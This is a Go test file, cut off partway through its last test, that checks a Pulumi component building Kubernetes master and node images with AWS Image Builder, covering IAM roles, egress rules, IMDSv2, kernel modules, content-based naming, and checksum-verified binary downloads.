package images_test

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"

	"github.com/pulumi/pulumi/sdk/v3/go/common/resource"
	"github.com/pulumi/pulumi/sdk/v3/go/pulumi"
	"github.com/stretchr/testify/require"
	yaml "go.yaml.in/yaml/v3"

	"github.com/kinfra-dev/kinfra/components/images"
	"github.com/kinfra-dev/kinfra/internal/iampolicy"
	"github.com/kinfra-dev/kinfra/internal/mockaws"
	"github.com/kinfra-dev/kinfra/internal/testtools"
	"github.com/kinfra-dev/kinfra/spec"
)

const (
	componentType = "aws:imagebuilder/component:Component"
	recipeType    = "aws:imagebuilder/imageRecipe:ImageRecipe"
	infraType     = "aws:imagebuilder/infrastructureConfiguration:InfrastructureConfiguration"
	distType      = "aws:imagebuilder/distributionConfiguration:DistributionConfiguration"
	pipelineType  = "aws:imagebuilder/imagePipeline:ImagePipeline"
	imageType     = "aws:imagebuilder/image:Image"
	roleType      = "aws:iam/role:Role"
	attachType    = "aws:iam/rolePolicyAttachment:RolePolicyAttachment"
	profileType   = "aws:iam/instanceProfile:InstanceProfile"
	sgType        = "aws:ec2/securityGroup:SecurityGroup"
	egressType    = "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule"
	ingressType   = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule"

	vpc    = "vpc-0123456789abcdef0"
	subnet = "subnet-0123456789abcdef0"
)

// cluster is an effective spec; edit changes it before defaults apply.
func cluster(t *testing.T, edit ...func(*spec.Cluster)) spec.Cluster {
	t.Helper()
	c := spec.Cluster{
		Name: "prod", Region: "us-east-1",
		Network: spec.Network{AvailabilityZones: []string{"us-east-1a", "us-east-1b", "us-east-1c"}},
		Tags:    map[string]string{"team": "platform"},
	}
	for _, e := range edit {
		e(&c)
	}
	eff, err := spec.Resolve(c)
	require.NoError(t, err)
	return eff
}

// recorder adds what mockaws does not record: each resource's custom
// timeouts.
type recorder struct {
	*mockaws.Mocks
	mu       sync.Mutex
	timeouts map[string]string
}

func (r *recorder) NewResource(args pulumi.MockResourceArgs) (string, resource.PropertyMap, error) {
	if rpc := args.RegisterRPC; rpc != nil && rpc.GetCustomTimeouts() != nil {
		r.mu.Lock()
		r.timeouts[args.TypeToken+"::"+args.Name] = rpc.GetCustomTimeouts().GetCreate()
		r.mu.Unlock()
	}
	return r.Mocks.NewResource(args)
}

type result struct {
	m        *mockaws.Mocks
	timeouts map[string]string
	pipeline *images.ImagePipeline

	mu  sync.Mutex
	ids map[string]string
}

func run(t *testing.T, a images.Args) (*result, error) {
	t.Helper()
	rec := &recorder{Mocks: mockaws.New(a.Cluster.Region), timeouts: map[string]string{}}
	res := &result{m: rec.Mocks, timeouts: rec.timeouts, ids: map[string]string{}}
	err := pulumi.RunErr(func(ctx *pulumi.Context) error {
		p, err := images.New(ctx, "prod-images", a)
		if err != nil {
			return err
		}
		res.pipeline = p
		for role, b := range p.Images {
			b.ID.ApplyT(func(id string) string {
				res.mu.Lock()
				defer res.mu.Unlock()
				res.ids[role] = id
				return id
			})
		}
		return nil
	}, pulumi.WithMocks("kinfra", "test", rec))
	return res, err
}

func plan(t *testing.T, c spec.Cluster) *result {
	t.Helper()
	res, err := run(t, images.Args{Cluster: c, VpcID: pulumi.String(vpc), SubnetID: pulumi.String(subnet)})
	require.NoError(t, err)
	return res
}

// arn is the mocked ARN of an Image Builder resource.
func arn(kind string, r mockaws.Resource, suffix string) string {
	return fmt.Sprintf("arn:aws:imagebuilder:us-east-1:123456789012:%s/%s%s", kind, strings.ToLower(r.Inputs["name"].(string)), suffix)
}

func TestBuildsEachRoleFromItsOwnRecipeWiredToOneInfrastructure(t *testing.T) {
	res := plan(t, cluster(t))
	m := res.m
	for typ, n := range map[string]int{
		roleType: 1, attachType: 2, profileType: 1, sgType: 1, egressType: 2, ingressType: 0,
		componentType: 6, recipeType: 2, infraType: 1, distType: 2, pipelineType: 2, imageType: 2,
		"aws:iam/rolePolicy:RolePolicy": 0, "aws:iam/policy:Policy": 0,
	} {
		require.Len(t, m.ByType(typ), n, typ)
	}
	for _, r := range m.Resources() {
		if r.Type != "kinfra:images:ImagePipeline" {
			require.True(t, strings.HasPrefix(r.Name, "prod-images-"), "%s %s is named after the component", r.Type, r.Name)
			require.Contains(t, r.Parent, "kinfra:images:ImagePipeline::prod-images", "%s is the component's child", r.Name)
		}
	}

	infra := m.MustNamed(t, infraType, "prod-images-builder")
	require.Equal(t, subnet, infra.Inputs["subnetId"])
	sg := m.MustNamed(t, sgType, "prod-images-builder")
	require.Equal(t, []string{sg.ID}, mockaws.Strings(infra.Inputs["securityGroupIds"]))
	require.Equal(t, vpc, sg.Inputs["vpcId"])
	profile := m.MustNamed(t, profileType, "prod-images-builder")
	require.Equal(t, profile.ID, infra.Inputs["instanceProfileName"])
	require.Equal(t, []string{"m7i.large"}, mockaws.Strings(infra.Inputs["instanceTypes"]))
	require.Equal(t, true, infra.Inputs["terminateInstanceOnFailure"])
	// A build must not start before its role can use SSM and its group
	// lets it download.
	for _, typ := range []string{attachType, egressType} {
		for _, r := range m.ByType(typ) {
			require.Contains(t, infra.Options.DependsOn, r.URN, "the infrastructure waits for %s", r.Name)
		}
	}
	infraArn := arn("infrastructure-configuration", infra, "")

	comps := map[string]mockaws.Resource{}
	for _, c := range m.ByType(componentType) {
		comps[strings.TrimPrefix(c.Name, "prod-images-")] = c
		require.Equal(t, "Linux", c.Inputs["platform"])
		require.Equal(t, "1.0.0", c.Inputs["version"])
		require.Equal(t, []string{"Ubuntu 24"}, mockaws.Strings(c.Inputs["supportedOsVersions"]))
	}
	for role, want := range map[string][]string{
		images.RoleMaster: {"kernel", "containerd", "kubernetes-master", "awscli", "etcd"},
		images.RoleNode:   {"kernel", "containerd", "kubernetes", "awscli"},
	} {
		recipe := m.MustNamed(t, recipeType, "prod-images-"+role)
		var got []string
		for _, c := range recipe.Inputs["components"].([]any) {
			got = append(got, mockaws.Field(c, "componentArn").(string))
		}
		wantArns := []string{"arn:aws:imagebuilder:us-east-1:aws:component/update-linux/x.x.x"}
		for _, w := range want {
			wantArns = append(wantArns, arn("component", comps[w], "/1.0.0/1"))
		}
		require.Equal(t, wantArns, got, "%s recipe: update-linux first, then ours in order", role)
		require.Equal(t, "ssm:/aws/service/canonical/ubuntu/server/24.04/stable/current/amd64/hvm/ebs-gp3/ami-id", recipe.Inputs["parentImage"])
		require.Equal(t, "/tmp", recipe.Inputs["workingDirectory"])
		require.Equal(t, true, mockaws.Field(recipe.Inputs, "systemsManagerAgent", "uninstallAfterBuild"))
		recipeArn := arn("image-recipe", recipe, "/1.0.0")

		dist := m.MustNamed(t, distType, "prod-images-"+role)
		require.Equal(t, "kinfra-prod-"+role, dist.Inputs["name"])
		ds := dist.Inputs["distributions"].([]any)
		require.Len(t, ds, 1)
		require.Equal(t, "us-east-1", mockaws.Field(ds[0], "region"))
		require.Equal(t, images.AMIName(role, "v1.37.2"), mockaws.Field(ds[0], "amiDistributionConfiguration", "name"))
		require.Nil(t, mockaws.Field(ds[0], "amiDistributionConfiguration", "launchPermission"), "not shared unless shareWith is set")
		distArn := arn("distribution-configuration", dist, "")

		pipe := m.MustNamed(t, pipelineType, "prod-images-"+role)
		img := m.MustNamed(t, imageType, "prod-images-"+role)
		for _, r := range []mockaws.Resource{pipe, img} {
			require.Equal(t, recipeArn, r.Inputs["imageRecipeArn"], r.Type)
			require.Equal(t, infraArn, r.Inputs["infrastructureConfigurationArn"], r.Type)
			require.Equal(t, distArn, r.Inputs["distributionConfigurationArn"], r.Type)
			require.Equal(t, true, mockaws.Field(r.Inputs, "imageTestsConfiguration", "imageTestsEnabled"), r.Type)
			require.Equal(t, 60.0, mockaws.Field(r.Inputs, "imageTestsConfiguration", "timeoutMinutes"), r.Type)
		}
		require.Equal(t, "ENABLED", pipe.Inputs["status"])
		require.Empty(t, res.timeouts[pipelineType+"::"+pipe.Name], "only the build waits long")
		require.Nil(t, pipe.Inputs["schedule"], "no schedule unless images.schedule is set")
		require.Equal(t, "2h", res.timeouts[imageType+"::"+img.Name], "a build may take long: up waits 2h")
	}
}

func TestBuiltIsTheImagesAMIInTheStacksRegion(t *testing.T) {
	for _, tc := range []struct {
		parent, arch, root, parentImage string
	}{
		{spec.ParentUbuntu2404, spec.ArchX86, "/dev/sda1", "ssm:/aws/service/canonical/ubuntu/server/24.04/stable/current/amd64/hvm/ebs-gp3/ami-id"},
		{spec.ParentUbuntu2404, spec.ArchARM, "/dev/sda1", "ssm:/aws/service/canonical/ubuntu/server/24.04/stable/current/arm64/hvm/ebs-gp3/ami-id"},
		{spec.ParentAL2023, spec.ArchX86, "/dev/xvda", "ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"},
		{spec.ParentAL2023, spec.ArchARM, "/dev/xvda", "ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-arm64"},
	} {
		t.Run(tc.parent+"-"+tc.arch, func(t *testing.T) {
			res := plan(t, cluster(t, func(c *spec.Cluster) {
				c.Images.Parent, c.Images.Architecture = tc.parent, tc.arch
			}))
			require.Equal(t, tc.root, images.RootDevice(tc.parent))
			for _, role := range []string{images.RoleMaster, images.RoleNode} {
				b := res.pipeline.Images[role]
				require.Equal(t, tc.root, b.RootDevice)
				require.Equal(t, "kinfra-"+role+"-k8s-v1.37.2-*", b.Name)
				require.Equal(t, mockaws.ImageAMI("prod-images-"+role), res.ids[role])

				recipe := res.m.MustNamed(t, recipeType, "prod-images-"+role)
				require.Equal(t, tc.parentImage, recipe.Inputs["parentImage"])
				bdm := recipe.Inputs["blockDeviceMappings"].([]any)
				require.Len(t, bdm, 1)
				require.Equal(t, tc.root, mockaws.Field(bdm[0], "deviceName"), "the parent's own root device")
				require.Equal(t, map[string]any{
					"encrypted": "true", "deleteOnTermination": "true", "volumeType": "gp3", "volumeSize": 30.0,
				}, mockaws.Field(bdm[0], "ebs"))
			}
			wantOS := map[string]string{spec.ParentUbuntu2404: "Ubuntu 24", spec.ParentAL2023: "Amazon Linux 2023"}[tc.parent]
			for _, c := range res.m.ByType(componentType) {
				require.Equal(t, []string{wantOS}, mockaws.Strings(c.Inputs["supportedOsVersions"]), c.Name)
			}
			types := []string{"m7i.large"}
			if tc.arch == spec.ArchARM {
				types = []string{"m7g.large"}
			}
			require.Equal(t, types, mockaws.Strings(res.m.MustNamed(t, infraType, "prod-images-builder").Inputs["instanceTypes"]))
		})
	}
}

func TestBuildRoleHoldsOnlyTheTwoManagedPoliciesImageBuilderRequires(t *testing.T) {
	m := plan(t, cluster(t)).m
	role := m.MustNamed(t, roleType, "prod-images-builder")
	require.Equal(t, "/kinfra/prod/", role.Inputs["path"])
	var trust iampolicy.Document
	require.NoError(t, json.Unmarshal([]byte(role.Inputs["assumeRolePolicy"].(string)), &trust))
	require.Len(t, trust.Statement, 1)
	require.Equal(t, []string{"ec2.amazonaws.com"}, trust.Statement[0].Principal.Service)
	require.Equal(t, []string{"sts:AssumeRole"}, trust.Statement[0].Action)
	for _, k := range []string{"inlinePolicies", "managedPolicyArns"} {
		require.Nil(t, role.Inputs[k], "the role has no %s", k)
	}
	var arns []string
	for _, a := range m.ByType(attachType) {
		require.Equal(t, role.ID, a.Inputs["role"])
		arns = append(arns, a.Inputs["policyArn"].(string))
	}
	sort.Strings(arns)
	require.Equal(t, []string{
		"arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore",
		"arn:aws:iam::aws:policy/EC2InstanceProfileForImageBuilder",
	}, arns)
	profile := m.MustNamed(t, profileType, "prod-images-builder")
	require.Equal(t, role.ID, profile.Inputs["role"])
	require.Equal(t, "/kinfra/prod/", profile.Inputs["path"])
}

// ec2Description is what EC2 accepts in security group and rule descriptions.
var ec2Description = regexp.MustCompile(`^[a-zA-Z0-9. _\-:/()#,@\[\]+=&;{}!$*]{0,255}$`)

func TestBuildersAdmitNothingAndReachOnlyHTTPAndHTTPS(t *testing.T) {
	m := plan(t, cluster(t)).m
	sg := m.MustNamed(t, sgType, "prod-images-builder")
	require.Nil(t, sg.Inputs["ingress"])
	require.Nil(t, sg.Inputs["egress"], "rules are separate resources")
	require.Regexp(t, ec2Description, sg.Inputs["description"])
	ports := map[float64]bool{}
	for _, r := range m.ByType(egressType) {
		require.Equal(t, sg.ID, r.Inputs["securityGroupId"])
		require.Equal(t, "0.0.0.0/0", r.Inputs["cidrIpv4"])
		require.Equal(t, "tcp", r.Inputs["ipProtocol"])
		require.Equal(t, r.Inputs["fromPort"], r.Inputs["toPort"])
		require.Regexp(t, ec2Description, r.Inputs["description"], r.Name)
		ports[r.Inputs["fromPort"].(float64)] = true
	}
	require.Equal(t, map[float64]bool{443: true, 80: true}, ports)
}

func TestBuildInstancesRequireIMDSv2(t *testing.T) {
	infra := plan(t, cluster(t)).m.MustNamed(t, infraType, "prod-images-builder")
	require.Equal(t, "required", mockaws.Field(infra.Inputs, "instanceMetadataOptions", "httpTokens"))
	require.Equal(t, 1.0, mockaws.Field(infra.Inputs, "instanceMetadataOptions", "httpPutResponseHopLimit"))
	require.Equal(t, "prod-images-builder", mockaws.Field(infra.Inputs, "resourceTags", "Name"), "build instances are tagged")
	require.Equal(t, "prod", mockaws.Field(infra.Inputs, "resourceTags", "kinfra.dev/cluster"))
}

func TestMasterRecipeHasEtcdAndNodeRecipeDoesNot(t *testing.T) {
	m := plan(t, cluster(t)).m
	etcd := m.MustNamed(t, componentType, "prod-images-etcd")
	etcdArn := arn("component", etcd, "/1.0.0/1")
	arns := func(role string) []string {
		var out []string
		for _, c := range m.MustNamed(t, recipeType, "prod-images-"+role).Inputs["components"].([]any) {
			out = append(out, mockaws.Field(c, "componentArn").(string))
		}
		return out
	}
	require.Contains(t, arns(images.RoleMaster), etcdArn)
	require.NotContains(t, arns(images.RoleNode), etcdArn)
}

func TestOnlyTheRequestedRolesAreBuilt(t *testing.T) {
	res, err := run(t, images.Args{Cluster: cluster(t), VpcID: pulumi.String(vpc), SubnetID: pulumi.String(subnet), Roles: []string{images.RoleNode}})
	require.NoError(t, err)
	require.Len(t, res.m.ByType(recipeType), 1)
	require.Len(t, res.m.ByType(componentType), 4, "no etcd component without a master image")
	_, ok := res.m.Named(componentType, "prod-images-etcd")
	require.False(t, ok)
	require.Contains(t, res.pipeline.Images, images.RoleNode)
	require.NotContains(t, res.pipeline.Images, images.RoleMaster)
}

func TestDistributionCoversSharedRegionsAndAccounts(t *testing.T) {
	m := plan(t, cluster(t, func(c *spec.Cluster) {
		c.Images.DistributeTo = []string{"eu-west-1", "ap-southeast-2"}
		c.Images.ShareWith = []string{"111122223333", "444455556666"}
	})).m
	for _, role := range []string{images.RoleMaster, images.RoleNode} {
		dist := m.MustNamed(t, distType, "prod-images-"+role)
		var regions []string
		for _, d := range dist.Inputs["distributions"].([]any) {
			regions = append(regions, mockaws.Field(d, "region").(string))
			ami := mockaws.Field(d, "amiDistributionConfiguration")
			require.Equal(t, images.AMIName(role, "v1.37.2"), mockaws.Field(ami, "name"))
			require.Equal(t, []string{"111122223333", "444455556666"}, mockaws.Strings(mockaws.Field(ami, "launchPermission", "userIds")))
			tags := mockaws.Field(ami, "amiTags").(map[string]any)
			want := map[string]any{
				"team": "platform", "managed-by": "kinfra", "kinfra.dev/cluster": "prod",
				images.TagRole: role, images.TagKubernetesVersion: "v1.37.2",
				images.TagContainerd: "2.4.2", images.TagRunc: "1.5.2", images.TagCNIPlugins: "1.9.1",
			}
			if role == images.RoleMaster {
				want[images.TagEtcd] = "3.7.3"
			}
			require.Equal(t, want, tags)
		}
		require.Equal(t, []string{"us-east-1", "eu-west-1", "ap-southeast-2"}, regions, "the stack's region first")
	}
}

func TestScheduleOnlyWhenSet(t *testing.T) {
	m := plan(t, cluster(t, func(c *spec.Cluster) { c.Images.Schedule = "cron(0 4 ? * sun *)" })).m
	for _, p := range m.ByType(pipelineType) {
		require.Equal(t, map[string]any{
			"scheduleExpression":              "cron(0 4 ? * sun *)",
			"pipelineExecutionStartCondition": "EXPRESSION_MATCH_AND_DEPENDENCY_UPDATES_AVAILABLE",
		}, p.Inputs["schedule"], p.Name)
	}
}

// Masters are built at the control plane's version, nodes at nodeVersion:
// binaries, their checks, the AMI names and tags, the lookup pattern.
func TestEachRoleIsBuiltAtItsOwnKubernetesVersion(t *testing.T) {
	c := cluster(t, func(c *spec.Cluster) { c.Kubernetes.Version, c.Kubernetes.NodeVersion = "v1.37.2", "v1.36.3" })
	res := plan(t, c)
	for role, v := range map[string]string{images.RoleMaster: "v1.37.2", images.RoleNode: "v1.36.3"} {
		k8s := commands(t, component(t, c, role, "kubernetes"))
		require.Contains(t, k8s, "fetch 'https://dl.k8s.io/release/"+v+"/bin/linux/amd64/kubelet' 'kubelet'", role)
		require.Contains(t, k8s, "[[ $version == '"+v+"' ]]", role)
		ami := mockaws.Field(res.m.MustNamed(t, distType, "prod-images-"+role).Inputs["distributions"].([]any)[0], "amiDistributionConfiguration")
		require.Equal(t, images.AMIName(role, v), mockaws.Field(ami, "name"), role)
		require.Equal(t, v, mockaws.Field(ami, "amiTags", images.TagKubernetesVersion), role)
		require.Contains(t, mockaws.Field(ami, "description"), "Kubernetes "+v+",", role)
		require.Contains(t, res.m.MustNamed(t, recipeType, "prod-images-"+role).Inputs["description"], "Kubernetes "+v+" ", role)
		require.Equal(t, "kinfra-"+role+"-k8s-"+v+"-*", res.pipeline.Images[role].Name, role)
	}
	require.Contains(t, res.m.MustNamed(t, componentType, "prod-images-kubernetes").Inputs["data"], "v1.36.3")
	require.Contains(t, res.m.MustNamed(t, componentType, "prod-images-kubernetes-master").Inputs["data"], "v1.37.2")

	_, err := images.Components(cluster(t), images.RoleNode)
	require.NoError(t, err)
	bad := cluster(t)
	bad.Kubernetes.NodeVersion = "v1.36"
	_, err = images.Components(bad, images.RoleNode)
	require.ErrorContains(t, err, `cluster.kubernetes.nodeVersion: "v1.36" is not vMAJOR.MINOR.PATCH`)
	_, err = images.Components(bad, images.RoleMaster)
	require.NoError(t, err, "the master image does not install the nodes' version")
}

// Component documents and recipes are immutable: a change must produce new
// names, and only where something changed.
func TestNamesFollowContent(t *testing.T) {
	names := func(c spec.Cluster) map[string]string {
		out := map[string]string{}
		m := plan(t, c).m
		for _, typ := range []string{componentType, recipeType} {
			for _, r := range m.ByType(typ) {
				out[r.Name] = r.Inputs["name"].(string)
			}
		}
		return out
	}
	base := names(cluster(t))
	require.Regexp(t, `^kinfra-prod-kernel-[0-9a-f]{8}$`, base["prod-images-kernel"])
	require.Regexp(t, `^kinfra-prod-master-[0-9a-f]{8}$`, base["prod-images-master"])
	require.Equal(t, base, names(cluster(t)), "names are deterministic")

	bumped := names(cluster(t, func(c *spec.Cluster) { c.Images.Versions.Containerd = "2.4.3" }))
	for _, n := range []string{"prod-images-containerd", "prod-images-master", "prod-images-node"} {
		require.NotEqual(t, base[n], bumped[n], "%s changes with containerd", n)
	}
	for _, n := range []string{"prod-images-kernel", "prod-images-kubernetes", "prod-images-awscli", "prod-images-etcd"} {
		require.Equal(t, base[n], bumped[n], "%s does not change with containerd", n)
	}
	etcd := names(cluster(t, func(c *spec.Cluster) { c.Images.Versions.Etcd = "3.7.4" }))
	require.NotEqual(t, base["prod-images-master"], etcd["prod-images-master"])
	require.Equal(t, base["prod-images-node"], etcd["prod-images-node"], "an etcd bump leaves the node image alone")

	// An upgrade's two steps each rebuild only the role they move: raising
	// version with nodeVersion pinned rebuilds the master image, then
	// raising nodeVersion the node image.
	step1 := names(cluster(t, func(c *spec.Cluster) { c.Kubernetes.Version, c.Kubernetes.NodeVersion = "v1.37.3", "v1.37.2" }))
	step2 := names(cluster(t, func(c *spec.Cluster) { c.Kubernetes.Version = "v1.37.3" }))
	for n := range base {
		moved := n == "prod-images-kubernetes-master" || n == "prod-images-master"
		require.Equal(t, moved, base[n] != step1[n], "step 1 (version): %s", n)
		moved = n == "prod-images-kubernetes" || n == "prod-images-node"
		require.Equal(t, moved, step1[n] != step2[n], "step 2 (nodeVersion): %s", n)
	}

	al := names(cluster(t, func(c *spec.Cluster) { c.Images.Parent = spec.ParentAL2023 }))
	for n := range base {
		require.NotEqual(t, base[n], al[n], "%s differs by parent (its supported OS does)", n)
	}
}

func TestBadArgsAreAllReportedAndRegisterNothing(t *testing.T) {
	c := cluster(t)
	off := false
	c.Images.Enabled = &off
	c.Images.Versions.Containerd = "latest"
	m := mockaws.New("us-east-1")
	err := m.Run("kinfra", "test", nil, func(ctx *pulumi.Context) error {
		_, err := images.New(ctx, "prod-images", images.Args{
			Cluster: c, SubnetID: pulumi.String("subnet-xyz"), Roles: []string{images.RoleMaster, "gpu", images.RoleMaster},
		})
		return err
	})
	require.Error(t, err)
	for _, want := range []string{
		"cluster.images.enabled: false; this stack builds no images",
		"images.VpcID: required",
		`images.SubnetID: "subnet-xyz" is not a subnet ID`,
		`images.Roles[1]: "gpu" is not master or node`,
		"images.Roles[2]: master is listed twice",
	} {
		require.ErrorContains(t, err, want)
	}
	require.Empty(t, m.Resources())

	// With images on, the spec's own problems are reported too.
	c.Images.Enabled = nil
	_, err = run(t, images.Args{Cluster: c, VpcID: pulumi.String("vpc-1"), SubnetID: pulumi.String(subnet)})
	require.ErrorContains(t, err, `cluster.images.versions.containerd: "latest" is not a release version`)
	require.ErrorContains(t, err, `images.VpcID: "vpc-1" is not a VPC ID`)
}

// doc is a parsed component document.
type doc struct {
	Name          string  `yaml:"name"`
	Description   string  `yaml:"description"`
	SchemaVersion float64 `yaml:"schemaVersion"`
	Phases        []struct {
		Name  string `yaml:"name"`
		Steps []struct {
			Name   string `yaml:"name"`
			Action string `yaml:"action"`
			Inputs struct {
				Commands []string `yaml:"commands"`
			} `yaml:"inputs"`
		} `yaml:"steps"`
	} `yaml:"phases"`
}

func parse(t *testing.T, c images.Component) doc {
	t.Helper()
	var d doc
	dec := yaml.NewDecoder(strings.NewReader(c.Data))
	dec.KnownFields(true)
	require.NoError(t, dec.Decode(&d), c.Name)
	return d
}

// variants are every combination the documents depend on.
func variants(t *testing.T) map[string]spec.Cluster {
	out := map[string]spec.Cluster{}
	for _, parent := range []string{spec.ParentUbuntu2404, spec.ParentAL2023} {
		for _, arch := range []string{spec.ArchX86, spec.ArchARM} {
			for _, mode := range []string{spec.ProxyNFTables, spec.ProxyIPTables, spec.ProxyIPVS, spec.ProxyNone} {
				for _, wg := range []bool{false, true} {
					out[fmt.Sprintf("%s/%s/%s/wireguard=%t", parent, arch, mode, wg)] = cluster(t, func(c *spec.Cluster) {
						c.Images.Parent, c.Images.Architecture, c.KubeProxy.Mode, c.CNI.WireGuard = parent, arch, mode, wg
						c.CNI.KubeProxyReplacement = mode == spec.ProxyNone
					})
				}
			}
		}
	}
	return out
}

var stepName = regexp.MustCompile(`^[A-Za-z0-9_-]+$`)

func TestComponentDocumentsFollowTheSchema(t *testing.T) {
	for name, c := range variants(t) {
		for _, role := range []string{images.RoleMaster, images.RoleNode} {
			comps, err := images.Components(c, role)
			require.NoError(t, err, name)
			var short []string
			for _, comp := range comps {
				short = append(short, comp.Name)
				d := parse(t, comp)
				require.Equal(t, "kinfra-"+comp.Name, d.Name)
				require.Equal(t, comp.Description, d.Description)
				require.Contains(t, d.Description, c.Images.Parent)
				require.Contains(t, comp.Data, "schemaVersion: 1.0\n")
				require.Equal(t, 1.0, d.SchemaVersion)
				var phases []string
				for _, p := range d.Phases {
					require.Contains(t, []string{"build", "validate", "test"}, p.Name, comp.Name)
					require.NotContains(t, phases, p.Name, "%s: phase %s twice", comp.Name, p.Name)
					phases = append(phases, p.Name)
					require.NotEmpty(t, p.Steps)
					seen := map[string]bool{}
					for _, s := range p.Steps {
						require.Regexp(t, stepName, s.Name)
						require.False(t, seen[s.Name], "%s/%s: step %s twice", comp.Name, p.Name, s.Name)
						seen[s.Name] = true
						require.Equal(t, "ExecuteBash", s.Action)
						require.NotEmpty(t, s.Inputs.Commands)
						require.Equal(t, "set -euo pipefail", s.Inputs.Commands[0], "%s/%s", comp.Name, s.Name)
						for _, cmd := range s.Inputs.Commands {
							require.NotContains(t, cmd, "{{", "AWSTOE would expand it")
						}
					}
				}
				require.Contains(t, phases, "build", comp.Name)
				require.Contains(t, phases, "validate", comp.Name)
			}
			want := []string{"kernel", "containerd", "kubernetes", "awscli"}
			if role == images.RoleMaster {
				want = append(want, "etcd")
			}
			require.Equal(t, want, short, "%s %s", name, role)
		}
	}
}

// commands are a component's commands, every step's joined, as AWSTOE runs
// them.
func commands(t *testing.T, comp images.Component) string {
	t.Helper()
	var out []string
	for _, p := range parse(t, comp).Phases {
		for _, s := range p.Steps {
			out = append(out, s.Inputs.Commands...)
		}
	}
	return strings.Join(out, "\n") + "\n"
}

func component(t *testing.T, c spec.Cluster, role, name string) images.Component {
	t.Helper()
	comps, err := images.Components(c, role)
	require.NoError(t, err)
	for _, comp := range comps {
		if comp.Name == name {
			return comp
		}
	}
	t.Fatalf("no component %s for %s", name, role)
	return images.Component{}
}

// modulesFile is the module list the kernel component writes.
func modulesFile(t *testing.T, c spec.Cluster) []string {
	t.Helper()
	data := component(t, c, images.RoleNode, "kernel").Data
	start := strings.Index(data, "<<'KINFRA_EOF'\n")
	require.Positive(t, start)
	var mods []string
	for _, l := range strings.Split(data[start:], "\n")[1:] {
		l = strings.TrimSpace(l)
		if l == "KINFRA_EOF" {
			break
		}
		if !strings.HasPrefix(l, "#") {
			mods = append(mods, l)
		}
	}
	return mods
}

func TestKernelModulesFollowTheProxyModeAndCNI(t *testing.T) {
	base := []string{"overlay", "br_netfilter", "nf_conntrack"}
	iptables := []string{"ip_tables", "iptable_filter", "iptable_nat", "ip6_tables", "ip6table_filter", "ip6table_nat", "xt_conntrack"}
	ipvs := []string{"ip_vs", "ip_vs_rr", "ip_vs_wrr", "ip_vs_sh"}
	for _, tc := range []struct {
		mode      string
		want, not []string
	}{
		{spec.ProxyNFTables, []string{"nf_tables"}, append(slices.Clone(ipvs), iptables...)},
		{spec.ProxyIPTables, iptables, ipvs},
		{spec.ProxyIPVS, append(slices.Clone(ipvs), iptables...), nil},
		{spec.ProxyNone, nil, append(append([]string{"nf_tables"}, ipvs...), iptables...)},
	} {
		for _, wg := range []bool{false, true} {
			c := cluster(t, func(c *spec.Cluster) {
				c.KubeProxy.Mode, c.CNI.WireGuard = tc.mode, wg
				c.CNI.KubeProxyReplacement = tc.mode == spec.ProxyNone
			})
			mods := modulesFile(t, c)
			require.Equal(t, images.Modules(tc.mode, c.CNI), mods)
			for _, m := range append(slices.Clone(base), tc.want...) {
				require.Contains(t, mods, m, "%s mode", tc.mode)
			}
			for _, m := range tc.not {
				require.NotContains(t, mods, m, "%s mode", tc.mode)
			}
			if wg {
				require.Contains(t, mods, "wireguard")
			} else {
				require.NotContains(t, mods, "wireguard")
			}
			require.Len(t, mods, len(slices.Compact(slices.Sorted(slices.Values(mods)))), "no module twice")
		}
	}
	kernel := commands(t, component(t, cluster(t), images.RoleNode, "kernel"))
	for _, s := range images.Sysctls {
		require.Contains(t, kernel, "\n"+s.Key+" = "+s.Value+"\n")
	}
	for _, k := range []string{"net.ipv4.ip_forward", "net.bridge.bridge-nf-call-iptables", "net.bridge.bridge-nf-call-ip6tables",
		"net.ipv6.conf.all.forwarding", "fs.inotify.max_user_instances", "fs.inotify.max_user_watches",
		"net.netfilter.nf_conntrack_max", "vm.max_map_count"} {
		require.Contains(t, kernel, "\n"+k+" = ", k)
	}
	require.Contains(t, kernel, "swapoff -a")
}

func TestDownloadsArePinnedAndVerified(t *testing.T) {
	for _, tc := range []struct{ arch, rel, cli string }{
		{spec.ArchX86, "amd64", "x86_64"}, {spec.ArchARM, "arm64", "aarch64"},
	} {
		c := cluster(t, func(c *spec.Cluster) {
			c.Images.Architecture = tc.arch
			c.Images.Versions = spec.ImageVersions{Containerd: "2.4.1", Runc: "1.5.0", CNIPlugins: "1.9.0", Etcd: "3.7.1"}
			c.Kubernetes.Version = "v1.37.1"
		})
		rt := commands(t, component(t, c, images.RoleNode, "containerd"))
		for _, s := range []string{
			"verify 'containerd-2.4.1-linux-" + tc.rel + ".tar.gz' 'containerd-2.4.1-linux-" + tc.rel + ".tar.gz.sha256sum'",
			"'https://github.com/containerd/containerd/releases/download/v2.4.1/containerd-2.4.1-linux-" + tc.rel + ".tar.gz'",
			"'https://github.com/containerd/containerd/releases/download/v2.4.1/containerd-2.4.1-linux-" + tc.rel + ".tar.gz.sha256sum'",
			"'https://github.com/opencontainers/runc/releases/download/v1.5.0/runc." + tc.rel + "'",
			"'https://github.com/opencontainers/runc/releases/download/v1.5.0/runc.sha256sum'",
			"verify 'runc." + tc.rel + "' 'runc.sha256sum'",
			"'https://github.com/containernetworking/plugins/releases/download/v1.9.0/cni-plugins-linux-" + tc.rel + "-v1.9.0.tgz'",
			"'https://github.com/containernetworking/plugins/releases/download/v1.9.0/cni-plugins-linux-" + tc.rel + "-v1.9.0.tgz.sha256'",
			"contains ' v2.4.1' '/usr/local/bin/containerd' '--version'",
			"contains 'runc version 1.5.0'",
			"SystemdCgroup = true", "version = 3",
			"systemctl enable --now containerd.service",
		} {
			require.Contains(t, rt, s)
		}
		k8s := commands(t, component(t, c, images.RoleNode, "kubernetes"))
		for _, bin := range []string{"kubelet", "kubeadm", "kubectl"} {
			url := "https://dl.k8s.io/release/v1.37.1/bin/linux/" + tc.rel + "/" + bin
			require.Contains(t, k8s, "fetch '"+url+"' '"+bin+"'")
			require.Contains(t, k8s, "fetch '"+url+".sha256' '"+bin+".sha256'")
			require.Contains(t, k8s, "verify '"+bin+"' '"+bin+".sha256'")
		}
